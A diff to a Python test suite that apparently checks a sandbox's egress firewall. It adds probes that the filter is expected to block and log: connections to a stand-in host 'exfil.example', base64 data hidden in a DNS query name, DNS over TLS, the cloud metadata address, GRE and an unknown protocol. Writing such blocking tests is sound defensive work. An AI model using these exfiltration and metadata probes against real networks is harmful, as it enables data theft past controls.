@@ -8,6 +8,7 @@ import os
 import re
 import socket
 import struct
+import subprocess
 import sys
 import threading
 import time
@@ -42,7 +43,7 @@ class Internet:
         self.frames = []
         with inside("internet"):
             self.sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-            listeners = [socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True) for port in (443, 22, 80)]
+            listeners = [socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True) for port in (443, 22, 80, 853)]
         self.sniffer.bind(("eth0", 3))
         threading.Thread(target=self._watch, daemon=True).start()
         for listener in listeners:
@@ -84,6 +85,33 @@ def tcp(address, port):
                 return client.recv(5) == b"hello", None
             except OSError:
                 return False, time.monotonic() - began
+    return attempt
+
+
+# What any program does, in a process of its own: ask the C library, connect to what it says. The guest has its own resolv.conf.
+LOOK_UP_AND_CONNECT = """
+import socket, sys, time
+began = time.monotonic()
+try:
+    for family, kind, protocol, _, to in socket.getaddrinfo(sys.argv[1], int(sys.argv[2]), socket.AF_UNSPEC, socket.SOCK_STREAM):
+        with socket.socket(family, kind, protocol) as client:
+            client.settimeout(1.5)
+            client.connect(to)
+            client.sendall(b"hello")
+            assert client.recv(5) == b"hello"
+    print("through")
+except OSError:
+    print("stopped", time.monotonic() - began)
+"""
+
+
+def named(name, port):
+    def attempt(_):
+        words = ["nsenter", f"--net=/run/netns/{NAME}-guest", "unshare", "--mount", "sh", "-c",
+                 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"', "sh", f"{RUN}/resolv.conf",
+                 sys.executable, "-c", LOOK_UP_AND_CONNECT, name, str(port)]
+        answer = subprocess.run(words, capture_output=True, text=True, check=True).stdout.split()
+        return answer[0] == "through", float(answer[1]) if len(answer) > 1 else None
     return attempt
 
 
@@ -146,8 +174,13 @@ def inbound(_):
             return False, None
 
 
-UDP53 = struct.pack("!HHHH", 5300, 53, 24, 0)
-ROWS = [  # what, to, attempt, address that the log names
+RUN = sys.argv[2]
+ROWS = [  # what, to, attempt, address or name that the journal names
+    ("HTTPS to an allowed name", "packages.example tcp/443", named("packages.example", 443), None),
+    ("a name below an allowed zone", "cdn.files.example tcp/443", named("cdn.files.example", 443), None),
+    ("any other name", "exfil.example tcp/443", named("exfil.example", 443), "exfil.example"),
+    ("data inside a question", "c2VjcmV0.exfil.example", named("c2VjcmV0.exfil.example", 443), "c2vjcmv0.exfil.example"),
+    ("a name that leads inside", "inside.files.example tcp/443", named("inside.files.example", 443), "inside.files.example"),
     ("HTTPS to an allowed network", "198.51.100.10 tcp/443", tcp("198.51.100.10", 443), None),
     ("the same by IPv6", "2001:db8:a::10 tcp/443", tcp("2001:db8:a::10", 443), None),
     ("ping it", "198.51.100.10 icmp", ping("198.51.100.10"), None),
@@ -157,11 +190,11 @@ ROWS = [  # what, to, attempt, address that the log names
     ("any other address", "203.0.113.66 tcp/443", tcp("203.0.113.66", 443), "203.0.113.66"),
     ("any other IPv6 address", "2001:db8:bad::66 tcp/443", tcp("2001:db8:bad::66", 443), "2001:db8:bad::66"),
     ("the cloud's metadata", "169.254.169.254 tcp/80", tcp("169.254.169.254", 80), "169.254.169.254"),
-    ("a DNS server of its choice", "203.0.113.53 udp/53", raw("203.0.113.53", 17, UDP53), "203.0.113.53"),
+    ("DNS over TLS", "203.0.113.53 tcp/853", tcp("203.0.113.53", 853), "203.0.113.53"),
     ("a GRE tunnel", "203.0.113.47 gre", raw("203.0.113.47", 47, b"\0\0\x08\0"), "203.0.113.47"),
     ("a made-up protocol", "203.0.113.25 proto/253", raw("203.0.113.25", 253), "203.0.113.25"),
 ]
-AFTER_DEATH = [ROWS[0], ROWS[6]]
+AFTER_DEATH = [next(row for row in ROWS if row[0] == what) for what in ("HTTPS to an allowed network", "any other address")]
 
 
 def try_all(rows, internet):
